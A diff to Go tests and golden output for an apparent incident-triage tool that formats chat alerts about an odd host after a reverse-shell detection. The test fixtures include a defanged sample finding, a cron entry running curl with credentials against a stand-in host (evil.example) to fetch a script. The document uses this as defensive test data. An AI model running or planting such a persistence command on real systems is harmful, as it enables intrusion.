@@ -86,10 +86,10 @@ Group      asg:web in 1111, eu-west-1; incident INC-7
 Trigger    Execution:Runtime/ReverseShell, severity 8.0, 2026-11-24 03:07:58 UTC
 Suspects   i-1 stands out; i-4 was not examined: SSM: TimedOut, DeliveryTimedOut
 Examined   2 of 4 hosts whole, 1 in part, 1 not at all
-Asked for  ip 198[.]51[.]100[.]23 seen on 1 host, unknown on 2; 1 more in the report
-Outliers   1. i-1, the suspect: 31.0 bits, 2 findings
-              high crontab added: curl --user ops:[redacted] http[:]//evil[.]example/x.sh, /etc/cron.d/x, on 1 of 3 hosts
+Outliers   1. i-1, the suspect: score 31.0, 2 findings
+              high crontab added: curl --user ops:[redacted] http[:]//evil[.]example/x.sh · /etc/cron.d/x, on 1 of 3 hosts
               medium processes changed: uid, on 1 of 3 hosts
+Asked for  ip 198[.]51[.]100[.]23 seen on 1 host, unknown on 2; 1 more in the report
 Not seen   1 host: 1 query failed; 1 host: SSM: TimedOut, DeliveryTimedOut
 
 Read on    https://console.example/run-1
@@ -129,14 +129,14 @@ func TestChatMessage(t *testing.T) {
 		"content": map[string]any{
 			"textType": "client-markdown",
 			"title":    ":red_circle: 1 of 3 examined hosts stands out",
-			"description": "Group: `asg:web` in `1111`, `eu-west-1`; incident `INC-7`\n" +
+			"description": "Group: `asg:web` in 1111, eu-west-1; incident INC-7\n" +
 				"Trigger: `Execution:Runtime/ReverseShell`, severity 8.0, 2026-11-24 03:07:58 UTC\n" +
 				"Suspects: `i-1` stands out; `i-4` was not examined: `SSM: TimedOut, DeliveryTimedOut`\n" +
 				"Examined: 2 of 4 hosts whole, 1 in part, 1 not at all\n" +
+				"1. `i-1`, the suspect: score 31.0, 2 findings\n" +
+				"- high crontab added: `curl --user ops:[redacted] http[:]//evil[.]example/x.sh · /etc/cron.d/x`, on 1 of 3 hosts\n" +
+				"- medium processes changed: `uid`, on 1 of 3 hosts\n" +
 				"Asked for: ip `198[.]51[.]100[.]23` seen on 1 host, unknown on 2; 1 more in the report\n" +
-				"1. `i-1`, the suspect: 31.0 bits, 2 findings\n" +
-				"- high `crontab` added: `curl --user ops:[redacted] http[:]//evil[.]example/x.sh, /etc/cron.d/x`, on 1 of 3 hosts\n" +
-				"- medium `processes` changed: `uid`, on 1 of 3 hosts\n" +
 				"Not seen: 1 host: `1 query failed`; 1 host: `SSM: TimedOut, DeliveryTimedOut`",
 			"nextSteps": []any{"Open the report: https://console.example/run-1", "Run `diffy runs report run-1`"},
 			"keywords":  []any{"diffy", "high"},
@@ -214,7 +214,7 @@ func TestVerdict(t *testing.T) {
 			triage.GroupResult{HostsRequested: 3, Examined: 3},
 			nil,
 			[]triage.Finding{{Severity: triage.Info}, {Severity: triage.Low}},
-			"No host stands out among the 3 of 3 examined", "low", 0, 100,
+			"No host stands out among the 3 hosts examined", "low", 0, 100,
 		},
 		{"one", triage.GroupResult{HostsRequested: 3, Examined: 3}, []triage.HostResult{odd}, []triage.Finding{{Severity: triage.Medium}}, "1 of 3 examined hosts stands out", "medium", 1, 100},
 		{"the only one", triage.GroupResult{HostsRequested: 1, Examined: 1}, []triage.HostResult{odd}, nil, "1 of 1 examined host stands out", "none", 1, 100},
